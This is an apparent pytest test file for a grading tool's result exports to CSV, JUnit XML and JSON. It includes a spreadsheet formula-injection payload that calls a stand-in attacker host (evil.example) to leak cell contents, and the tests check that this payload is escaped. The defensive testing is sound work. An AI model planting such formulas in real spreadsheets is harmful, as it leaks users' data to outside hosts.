"""Results as other programs read them, with names that mean harm."""

import asyncio
import csv
import io
import json
from collections.abc import AsyncIterator, Sequence
from dataclasses import replace
from xml.etree import ElementTree

import msgspec
import pytest

from assay.domain.submission import Priority, State, Submission
from assay.grading.export import junit
from assay.grading.export.csv import harmless
from assay.grading.export.rows import Policy, chosen
from assay.grading.export.written import Format, written
from assay.grading.results import PartResult, Result, Verdict
from assay.grading.results import TestResult as OfTest
from assay.storage.submissions.results import Known

FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"go")'


def known(
    name: str, grade: float | None, *, learner: str = "ada", owner: str = "", **more: object
) -> Known:
    verdict = Verdict.ERROR if grade is None else Verdict.PASSED if grade == 100 else Verdict.FAILED
    result = Result(verdict=verdict, grade=grade, **more)  # type: ignore[arg-type]
    of = replace(submission(name, learner), owner=owner, grade=grade, verdict=verdict)
    return Known(submission=of, result=msgspec.json.encode(result))


def submission(name: str, learner: str, state: State = State.DONE) -> Submission:
    return Submission(
        id=name, owner="", key=None, course="algebra", task="sum", learner=learner,
        priority=Priority.LIVE, state=state, submitted_at=1e9, environment="", task_hash="",
        seed=None, attempts=1, claim=1, not_before=None, claimed_at=None, finished_at=1e9 + 5,
        seconds=1.0,
    )  # fmt: skip


async def submissions_of(each: Sequence[Known]) -> AsyncIterator[Submission]:
    for one in each:
        yield one.submission


def text_of(form: Format, *each: Known, policy: Policy = Policy.ALL) -> bytes:
    known = {one.submission.id: one for one in each}

    async def meant() -> AsyncIterator[Known]:
        async for one in chosen(submissions_of(each), policy):
            yield known[one.id]

    async def whole() -> bytes:
        pieces = written(meant(), form, name="algebra <&\"'\x0b>")
        return b"".join([piece async for piece in pieces])

    return asyncio.run(whole())


@pytest.mark.parametrize(
    "cell", [FORMULA, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "＝1"]
)
def test_no_cell_is_a_formula(cell: str) -> None:
    assert harmless(cell) == f"'{cell}"


def test_csv_is_read_back_as_it_was_but_for_formulas() -> None:
    text = text_of(
        Format.CSV, known("1", 50.0, learner=FORMULA), known("2", None, learner='a"b,c;d')
    )
    assert text.endswith(b"\r\n")
    assert text.count(b"\n") == text.count(b"\r\n") == 3
    rows = list(csv.DictReader(io.StringIO(text.decode(), newline=""), strict=True))
    assert [row["learner"] for row in rows] == [f"'{FORMULA}", 'a"b,c;d']
    assert [row["grade"] for row in rows] == ["50", ""]


def suites(*each: Known) -> ElementTree.Element:
    return ElementTree.fromstring(text_of(Format.JUNIT, *each))


def test_reports_say_failures_errors_and_what_was_skipped() -> None:
    tests = tuple(
        OfTest(name=f"\x00{verdict}\ud800<&", verdict=verdict, score=0.0, message="]]>\x1b[0m")
        for verdict in (Verdict.PASSED, Verdict.FAILED, Verdict.NOT_RUN, Verdict.ERROR)
    )
    part = PartResult(id="cases", verdict=Verdict.FAILED, score=0.0, tests=tests)
    alone = PartResult(id="style", verdict=Verdict.TIMED_OUT, score=0.0)
    suite = junit.suite("sum", "algebra.sum", Result(
        verdict=Verdict.FAILED, grade=0.0, parts=(
            PartResult(id=part.id, verdict=part.verdict, score=0.0, tests=part.tests), alone,
        ),
    ))  # fmt: skip
    read = ElementTree.fromstring(junit.document("a\x00b", [suite]))
    (found,) = read
    counts = [found.get(name) for name in ("tests", "failures", "errors", "skipped")]
    assert counts == ["5", "2", "1", "1"]
    kinds = [next((child.tag for child in case), "") for case in found]
    assert kinds == ["", "failure", "skipped", "error", "failure"]
    assert all("\x00" not in str(case.get("name")) for case in found)


def test_every_submission_is_a_suite_and_what_has_no_result_is_skipped() -> None:
    waiting = Known(submission=submission("9", "bob", State.WAITING), result=None)
    read = suites(known("1", 100.0), known("2", None, detail="the task is wrong"), waiting)
    assert read.tag == "testsuites"
    assert [suite.get("errors") for suite in read] == ["0", "1", "0"]
    assert read[2][0][0].tag == "skipped"


@pytest.mark.parametrize(
    ("policy", "ids"),
    [(Policy.ALL, "1 2 3 4 5 6 7"), (Policy.BEST, "2 5 7"), (Policy.LAST, "3 5 7")],
)
def test_the_best_is_the_first_of_the_highest_and_the_last_has_a_grade(
    policy: Policy, ids: str
) -> None:
    text = text_of(
        Format.JSON,
        known("1", 10.0), known("2", 90.0), known("3", 90.0), known("4", None),
        known("5", 0.0, learner="bob"),
        known("6", None, learner="eve"), known("7", None, learner="eve"),
        policy=policy,
    )  # fmt: skip
    read = json.loads(text)["results"]
    assert [each["submission"] for each in read] == ids.split()


@pytest.mark.parametrize(("policy", "ids"), [(Policy.BEST, "1 2 5"), (Policy.LAST, "2 3 5")])
def test_two_platforms_may_have_one_name_for_two_learners(policy: Policy, ids: str) -> None:
    as_json, as_csv = (
        text_of(
            form,
            known("1", 90.0, owner="a"), known("2", 40.0, owner="b"), known("3", 30.0, owner="a"),
            known("5", 10.0, learner="bob", owner="b"),
            policy=policy,
        )
        for form in (Format.JSON, Format.CSV)
    )  # fmt: skip
    for read in (json.loads(as_json)["results"], csv.DictReader(io.StringIO(as_csv.decode()))):
        rows = list(read)
        assert [each["submission"] for each in rows] == ids.split()
        assert {each["owner"] for each in rows if each["learner"] == "ada"} == {"a", "b"}
